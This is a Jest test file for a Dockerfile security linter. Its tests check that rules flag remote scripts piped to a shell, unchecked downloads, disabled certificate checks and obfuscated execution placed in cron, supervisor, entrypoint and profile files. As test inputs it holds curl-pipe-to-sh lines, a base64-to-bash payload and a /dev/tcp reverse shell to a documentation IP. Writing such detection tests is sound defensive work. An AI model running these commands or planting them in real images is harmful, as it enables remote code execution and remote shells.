import { describe, expect, it } from '@jest/globals';
import passwordSet from '../../../src/rules/privileges/users/password-set-in-image.ts';
import addRemote from '../../../src/rules/supply-chain/downloads/add-remote-no-checksum.ts';
import downloadUnverified from '../../../src/rules/supply-chain/downloads/download-unverified.ts';
import obfuscatedExec from '../../../src/rules/supply-chain/downloads/obfuscated-exec.ts';
import rule from '../../../src/rules/supply-chain/downloads/remote-script-exec.ts';
import tlsVerifyDisabled from '../../../src/rules/supply-chain/downloads/tls-verify-disabled.ts';
import { checkText, messagesOf } from '../../support/example.ts';

const PIPE = 'curl -fsSL https://get.example.com/a | sh';
const SCRIPT = `#!/bin/sh\n${PIPE}\n`;
const DEFAULTS = [{}, {}, undefined] as const;

const found = (from: typeof rule, text: string, files: Readonly<Record<string, string>> = {}) =>
  checkText(from, 'Dockerfile', `FROM debian:12\n${text}\n`, DEFAULTS[0], DEFAULTS[1], DEFAULTS[2], files).findings;

/** Each path with the text of a file in which a shell runs the pipe. */
const STARTED: readonly (readonly [string, string])[] = [
  ['/etc/services.d/app/run', `#!/usr/bin/with-contenv bash\n${PIPE}\n`],
  ['/etc/s6-overlay/s6-rc.d/app/run', `#!/command/with-contenv sh\n${PIPE}\n`],
  ['/etc/s6-overlay/scripts/prepare', SCRIPT],
  ['/etc/cont-init.d/10-a', SCRIPT],
  ['/custom-cont-init.d/a', SCRIPT],
  ['/etc/service/app/run', SCRIPT],
  ['/etc/my_init.d/a.sh', SCRIPT],
  ['/docker-entrypoint.d/10-a.sh', SCRIPT],
  ['/docker-entrypoint-initdb.d/a.sh', PIPE],
  ['/etc/cron.daily/a', SCRIPT],
  ['/etc/periodic/15min/a', SCRIPT],
  ['/etc/cron.d/a', `SHELL=/bin/sh\n# ${PIPE}\n*/5 * * * * root ${PIPE}\n`],
  ['/etc/crontab', `@daily root ${PIPE}\n`],
  ['/var/spool/cron/crontabs/root', `0 3 * * mon-fri ${PIPE}\n`],
  ['/etc/crontabs/root', `0 3 * * * ${PIPE}\n`],
  ['/etc/supervisor/conf.d/a.conf', `[program:a]\ncommand = sh -c "${PIPE}"\n`],
  [
    '/etc/supervisor/supervisord.conf',
    `[program:a]\ncommand=/bin/x -a %(ENV_A)s -b %(here)s\n[x]\ncommand=sh -c "${PIPE}"\n`,
  ],
  ['/etc/supervisord.conf', `[program:a]\ncommand=bash -c '${PIPE}'\n`],
  ['/etc/systemd/system/a.service', `[Service]\nExecStartPre=-/bin/sh -c '${PIPE}'\nExecStart=/app\n`],
  ['/etc/profile.d/a.sh', PIPE],
  ['/root/.bashrc', PIPE],
  ['/home/app/.profile', PIPE],
  ['/etc/rc.local', SCRIPT],
  ['/etc/init.d/a', SCRIPT],
];

describe('files that something starts', () => {
  it.each(STARTED)('are read where COPY writes them: %s', (path, text) => {
    expect(found(rule, `COPY <<"E" ${path}\n${text}\nE`)).toHaveLength(1);
  });

  it.each(STARTED)('are read for unchecked certificates: %s', (path, text) => {
    const unchecked = text.replaceAll(PIPE, 'curl -k -o /t https://get.example.com/t');
    expect(found(tlsVerifyDisabled, `COPY <<"E" ${path}\n${unchecked}\nE`)).toHaveLength(1);
    expect(found(tlsVerifyDisabled, `COPY <<"E" ${path}\n${unchecked.replaceAll('-k', '-f')}\nE`)).toEqual([]);
  });

  it.each(STARTED)('are read where they come from the context: %s', (path, text) => {
    const folder = path.slice(0, path.lastIndexOf('/') + 1);
    const name = path.slice(folder.length);
    expect(found(rule, `COPY a/${name} ${path}`, { [`a/${name}`]: text })).toHaveLength(1);
    expect(found(rule, `COPY a/${name} ${folder}`, { [`a/${name}`]: text })).toHaveLength(1);
    expect(found(rule, `COPY root/ /`, { [`root${path}`]: text })).toHaveLength(1);
    expect(found(rule, `COPY a /a\nRUN mkdir -p ${folder} && cp /a/x ${path}`, { 'a/x': text })).toHaveLength(1);
  });

  it.each(STARTED)('are left alone elsewhere, and where no shell reads them: %s', (path, text) => {
    const elsewhere = `/srv/x${path}`.replaceAll('supervis', 'a');
    expect(found(rule, `COPY <<"E" ${elsewhere}\n${text}\nE`)).toEqual([]);
    expect(found(rule, `COPY <<"E" ${path}\n#!/usr/bin/python3\n# ${PIPE}\nE`)).toEqual([]);
  });

  it.each([
    `RUN printf '#!/bin/sh\\n${PIPE}\\n' > /etc/services.d/a/run`,
    `RUN echo '* * * * * root ${PIPE}' >> /etc/cron.d/a`,
    `RUN echo '${PIPE}' >> ~/.bashrc`,
    `RUN cat > /etc/profile.d/a.sh <<E\n${PIPE}\nE`,
    `RUN echo '${PIPE}' | tee /etc/my_init.d/a`,
    `ENV BASH_ENV=/x.sh\nRUN echo '${PIPE}' > /x.sh`,
    `ENV ENV=/etc/shrc\nCOPY <<E /etc/shrc\n${PIPE}\nE`,
  ])('are read where RUN writes them: %s', (text) => expect(found(rule, text)).toHaveLength(1));

  it('are read of the stage that writes them alone', () => {
    const text = `COPY <<E /etc/my_init.d/a\n${PIPE}\nE\nFROM a\nRUN true`;
    expect(checkText(rule, 'Dockerfile', `FROM debian:12 AS a\n${text}\n`).findings).toHaveLength(1);
  });

  it('are named in the message, with the place in their file', () => {
    const files = { 'etc/run': SCRIPT };
    expect(messagesOf(rule, 'Dockerfile', 'FROM debian:12\nCOPY etc/run /etc/services.d/a/run\n', files)).toEqual([
      'This Dockerfile has a file at /etc/services.d/a/run that runs what curl fetches from get.example.com with sh, and nothing checks what that is.',
    ]);
    expect(found(rule, 'COPY etc/run /etc/services.d/a/run', files)[0]?.span.file.path).toBe('etc/run');
  });

  it('may save what they fetch first, or hide it', () => {
    const saved = 'curl -o /a https://get.example.com/a; sh /a';
    expect(found(downloadUnverified, `COPY <<E /etc/my_init.d/a\n${saved}\nE`)).toHaveLength(1);
    const hidden = 'echo ZWNobyBoZWxsbwo= | base64 -d | bash';
    expect(found(obfuscatedExec, `COPY <<E /etc/my_init.d/a\n${hidden}\nE`)).toHaveLength(1);
    expect(found(obfuscatedExec, `CMD ${hidden}`)).toHaveLength(1);
    expect(found(obfuscatedExec, `CMD ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]`)).toHaveLength(1);
  });
});

describe('the entry point of the image below', () => {
  const at = (base: string, text: string, files: Readonly<Record<string, string>>, from = rule) =>
    checkText(from, 'Dockerfile', `FROM ${base}\n${text}\n`, {}, {}, undefined, files).findings.map(
      ({ span }) => `${span.file.path}:${span.file.text.slice(0, span.start).split('\n').length}`,
    );
  const files = { 'a.sh': SCRIPT, 'docker-entrypoint.sh': SCRIPT, 'd/docker-entrypoint.sh': SCRIPT };

  it.each([
    ['postgres:17', 'COPY a.sh /usr/local/bin/docker-entrypoint.sh', 'a.sh:2'],
    ['redis:8', 'COPY docker-entrypoint.sh /usr/local/bin/', 'docker-entrypoint.sh:2'],
    ['node:22', 'COPY d /usr/local/bin', 'd/docker-entrypoint.sh:2'],
    ['nginx:1.29', 'COPY a.sh /docker-entrypoint.sh', 'a.sh:2'],
    ['php:8.4', 'COPY --chmod=755 a.sh /usr/local/bin/docker-php-entrypoint', 'a.sh:2'],
    ['registry:3', 'COPY a.sh /entrypoint.sh', 'a.sh:2'],
    ['postgres:17', `RUN sed -i '2i ${PIPE}' /usr/local/bin/docker-entrypoint.sh`, 'Dockerfile:2'],
    ['postgres:17', `RUN sed -i -e '/^set/a\\${PIPE}' /usr/local/bin/docker-entrypoint.sh`, 'Dockerfile:2'],
    ['postgres:17', `RUN echo '${PIPE}' >> /usr/local/bin/docker-entrypoint.sh`, 'Dockerfile:2'],
  ])('may be replaced: %s %s', (base, text, place) => expect(at(base, text, files)).toEqual([place]));

  it.each([
    ['postgres:17', 'COPY a.sh /usr/local/bin/docker-entrypoint.sh\nENTRYPOINT ["/app"]', files],
    ['postgres:17', 'COPY a.sh /usr/local/share/docker-entrypoint.sh', files],
    ['postgres:17', 'COPY a.sh /usr/local/bin/docker-entrypoint.sh.md', files],
    ['postgres:17', 'COPY a.sh /usr/local/bin/docker-entrypoint.sh', { 'a.sh': '#!/bin/sh\nexec curl --version\n' }],
    [
      'debian:12',
      'COPY docker-entrypoint.sh /usr/local/bin/\nENTRYPOINT ["docker-entrypoint.sh"]\nCMD ["curl"]',
      { 'docker-entrypoint.sh': '#!/bin/sh\nset -e\ncurl -fsS http://127.0.0.1/ || true\nexec "$@"\n' },
    ],
    ['postgres:17', `RUN sed -i '2i echo "# ${PIPE}"' /usr/local/bin/docker-entrypoint.sh`, {}],
    ['postgres:17', `RUN sed '2i ${PIPE}' /usr/local/bin/docker-entrypoint.sh`, {}],
    ['postgres:17', `RUN sed -i '2i ${PIPE}' /usr/share/doc/entrypoint.txt`, {}],
  ])('may be replaced without harm, or is not replaced: %s %s', (base, text, given) =>
    expect(at(base, text, given)).toEqual([]),
  );

  it.each([
    ['postgres:17', 'RUN curl -o /docker-entrypoint-initdb.d/a.sh https://get.example.com/a.sh'],
    ['postgres:17', 'RUN curl -o /usr/local/bin/docker-entrypoint.sh https://get.example.com/a.sh'],
    ['postgres:17', 'RUN wget -P /docker-entrypoint-initdb.d https://get.example.com/a.sh'],
  ])('and files that it starts may be downloads: %s %s', (base, text) => {
    expect(at(base, text, {}, downloadUnverified)).toEqual(['Dockerfile:2']);
  });

  it('is named in the message about a download, which is as severe as a script in a pipe', () => {
    const text = 'RUN curl -o /docker-entrypoint-initdb.d/a.sh https://get.example.com/a.sh';
    expect(found(downloadUnverified, text)).toMatchObject([{ severity: 'high' }]);
    expect(messagesOf(downloadUnverified, 'Dockerfile', `FROM postgres:17\n${text}\n`)).toEqual([
      'This Dockerfile downloads "https://get.example.com/a.sh" and puts it where the image starts it, and nothing checks what it is.',
    ]);
    expect(found(addRemote, 'ADD https://get.example.com/a.sh /docker-entrypoint-initdb.d/')).toMatchObject([
      { severity: 'high' },
    ]);
  });

  it.each([
    'RUN curl -o /docker-entrypoint-initdb.d/a.sql https://get.example.com/a.sql',
    'RUN curl -o /usr/local/bin/docker-entrypoint.sh https://get.example.com/a.sh\nENTRYPOINT ["/app"]',
    'RUN curl -o /srv/docker-entrypoint.sh https://get.example.com/a.sh',
    `RUN curl -o /docker-entrypoint-initdb.d/a.sh https://get.example.com/a.sh && echo '${'4d'.repeat(32)}  /docker-entrypoint-initdb.d/a.sh' | sha256sum -c -`,
  ])('and downloads elsewhere, or that are checked, are left alone: %s', (text) => {
    expect(found(downloadUnverified, text)).toEqual([]);
  });
});

describe('a script from a web address that is a program', () => {
  const weights = (text: string) => found(addRemote, text).map(({ severity }) => severity);
  const ADD = 'ADD --chmod=755 https://get.example.com/a.sh /usr/local/bin/st.sh\n';

  it.each([
    'ENTRYPOINT ["st.sh"]',
    'ENTRYPOINT st.sh --now',
    'CMD ["st.sh"]',
    'RUN st.sh',
    'RUN set -e; exec st.sh',
    'ENTRYPOINT ["/usr/local/bin/st.sh"]',
  ])('is run by its name: %s', (text) => expect(weights(ADD + text)).toEqual(['high']));

  it.each(['ENTRYPOINT ["other.sh"]', 'RUN ls', 'RUN ./st.sh', 'RUN echo st.sh', 'ENTRYPOINT ["/opt/st.sh"]'])(
    'is not run by another name: %s',
    (text) => expect(weights(ADD + text)).toEqual(['medium']),
  );

  it('is not a program in another folder, or known by a checksum', () => {
    expect(weights('ADD https://get.example.com/a.sh /opt/st.sh\nRUN st.sh')).toEqual(['medium']);
    expect(weights(`${ADD.replace('755', `755 --checksum=sha256:${'4d'.repeat(32)}`)}RUN st.sh`)).toEqual([]);
  });

  it('may be fetched by a command', () => {
    const fetched = 'RUN curl -o /usr/local/bin/st.sh https://get.example.com/a.sh && chmod +x /usr/local/bin/st.sh';
    expect(found(downloadUnverified, `${fetched} && st.sh`)).toMatchObject([{ severity: 'high' }]);
    expect(found(downloadUnverified, `${fetched} && echo st.sh`)).toMatchObject([{ severity: 'medium' }]);
  });
});

it('reads a script of the context that ONBUILD runs', () => {
  expect(found(rule, 'COPY x.sh /x.sh\nONBUILD RUN sh /x.sh # curl', { 'x.sh': SCRIPT })).toHaveLength(1);
});

describe('a file that the shell of a RUN reads first', () => {
  const LOOSE = 'curl -k https://get.example.com/a -o /a\n';
  const PASSWORD = 'echo root:not-real | chpasswd\n';

  it.each([
    'COPY a.sh /k\nENV BASH_ENV=/k\nSHELL ["bash", "-c"]\nRUN true\nRUN true',
    'ENV BASH_ENV=/k\nCOPY a.sh /k\nRUN ["/bin/bash", "-c", "true"]',
    'COPY a.sh /k\nENV BASH_ENV=/k\nRUN bash -c true && bash -c true',
    'COPY a.sh /etc/profile.d/k.sh\nSHELL ["/bin/bash", "-lc"]\nRUN true',
    'COPY a.sh /etc/profile.d/\nSHELL ["sh", "--login", "-c"]\nRUN true',
    'COPY a.sh /k\nSHELL ["bash", "--rcfile", "/k", "-ic"]\nRUN true',
    'COPY a.sh /root/.bashrc\nSHELL ["bash", "-ic"]\nRUN true',
  ])('is seen by all rules about commands: %j', (text) => {
    expect(found(tlsVerifyDisabled, text, { 'a.sh': LOOSE }).map(({ span }) => span.file.path)).toEqual(['a.sh']);
    expect(found(passwordSet, text, { 'a.sh': PASSWORD }).map(({ span }) => span.file.path)).toEqual(['a.sh']);
    expect(found(rule, text, { 'a.sh': SCRIPT })).toHaveLength(1);
    expect(found(tlsVerifyDisabled, text, { 'a.sh': 'set -e\n' })).toEqual([]);
  });

  it('is seen where the Dockerfile writes it', () => {
    const text = `RUN echo '${LOOSE.trim()}' > /k\nENV BASH_ENV=/k\nSHELL ["bash", "-c"]\nRUN true\nRUN true`;
    expect(found(tlsVerifyDisabled, text)).toHaveLength(1);
  });

  it.each([
    'COPY a.sh /k\nENV BASH_ENV=/k\nRUN true',
    'COPY a.sh /k\nENV BASH_ENV=/j\nSHELL ["bash", "-c"]\nRUN true',
    'ENV BASH_ENV=/k\nSHELL ["bash", "-c"]\nRUN true\nCOPY a.sh /k',
    'COPY a.sh /etc/profile.d/k.sh\nSHELL ["bash", "-c"]\nRUN true',
    'COPY a.sh /etc/profile.d/k.txt\nSHELL ["bash", "-lc"]\nRUN true',
    'COPY a.sh /k\nSHELL ["bash", "--rcfile", "/k", "-c"]\nRUN true',
    'COPY a.sh /k\nARG BASH_ENV=/k\nSHELL ["sh", "-c"]\nRUN true',
  ])('is no other file: %j', (text) => {
    expect(found(passwordSet, text, { 'a.sh': PASSWORD })).toEqual([]);
  });
});
